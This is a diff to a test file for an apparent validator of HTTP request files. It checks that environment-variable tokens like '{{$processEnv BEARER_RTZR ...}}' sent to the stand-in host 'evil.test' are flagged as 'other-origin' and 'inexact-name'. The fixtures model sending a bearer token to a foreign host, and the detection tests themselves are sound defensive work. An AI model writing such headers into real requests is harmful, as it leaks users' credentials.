@@ -48,8 +48,14 @@ describe('problems of a request file', () => {
 
   it('are tokens that only REST Client sees: behind other words, in other braces, in what is a script to httpYac', () => {
     const evil = 'GET https://evil.test/';
-    assert.deepEqual(problems(evil, 'A: {{$processEnv BEARER_RTZR x}}'), [['other-origin', '{{$processEnv BEARER_RTZR x}}']]);
-    assert.deepEqual(problems(evil, 'A: {{$processEnv BEARER_RTZR {{x}}'), [['other-origin', '{{$processEnv BEARER_RTZR {{x}}']]);
+    assert.deepEqual(problems(evil, 'A: {{$processEnv BEARER_RTZR x}}'), [
+      ['inexact-name', '{{$processEnv BEARER_RTZR x}}'],
+      ['other-origin', '{{$processEnv BEARER_RTZR x}}'],
+    ]);
+    assert.deepEqual(problems(evil, 'A: {{$processEnv BEARER_RTZR {{x}}'), [
+      ['inexact-name', '{{$processEnv BEARER_RTZR {{x}}'],
+      ['other-origin', '{{$processEnv BEARER_RTZR {{x}}'],
+    ]);
     assert.deepEqual(problems(evil, 'A: {{$processEnv %t}}'), [['other-origin', '{{$processEnv %t}}']]);
     for (const [open, close] of [
       ['{{', '}}'],
